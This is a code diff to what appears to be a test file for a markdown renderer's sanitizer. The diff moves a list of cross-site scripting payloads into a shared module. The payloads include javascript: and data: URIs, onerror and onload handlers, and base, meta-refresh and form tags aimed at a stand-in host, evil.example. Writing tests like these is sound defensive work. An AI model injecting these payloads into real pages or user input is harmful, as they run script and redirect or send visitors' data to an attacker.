@@ -1,53 +1,7 @@
 import { findThemeViolations } from '../axe.ts'
 import { expect, test } from '../fixtures.ts'
 import { developmentBuild, serveBuild } from '../other-build.ts'
-
-// The linter rejects addresses of scripts in code.
-const script = ['java', 'script:'].join('')
-
-const schemes = [
-  `${script}alert(1)`,
-  `${script.toUpperCase()}alert(1)`,
-  ` ${script}alert(1)`,
-  'java&#10;script:alert(1)',
-  '&#106;avascript:alert(1)',
-  `\u0001${script}alert(1)`,
-  'vbscript:msgbox(1)',
-  'data:text/html,<script>alert(1)</script>',
-  'data:image/svg+xml,<svg onload=alert(1)>',
-  'file:///etc/passwd',
-  '//evil.example/x',
-  '/settings',
-  'blob:https://a.example/1',
-  `${script}//a.example/%0aalert(1)`,
-]
-const syntaxes = [
-  (url: string) => `[a](${url})`,
-  (url: string) => `[a](<${url}>)`,
-  (url: string) => `![a](${url})`,
-  (url: string) => `<${url}>`,
-  (url: string) => `<a href="${url}">a</a>`,
-  (url: string) => `<img src="${url}" onerror="alert(1)">`,
-]
-const markup = [
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<style>* { display: none }</style>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<form action="https://evil.example"><input name=key></form>',
-  '<math><mi xlink:href="javascript:alert(1)">',
-  '<details open ontoggle=alert(1)>',
-  '<object data="javascript:alert(1)">',
-  '"><img src=x onerror=alert(1)>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<!--><script>alert(1)</script>',
-  '`<img src=x onerror=alert(1)>`',
-  '[a]: javascript:alert(1) "x"\n\n[a]',
-  '&copy;&nbsp;&amp;&#0;&notit;',
-]
-const payloads = [...schemes.flatMap((url) => syntaxes.map((write) => write(url))), ...markup]
+import { payloads } from '../payloads.ts'
 
 // The parts of the kit by themselves, without a service.
 test.describe('markdown', { tag: '@once' }, () => {
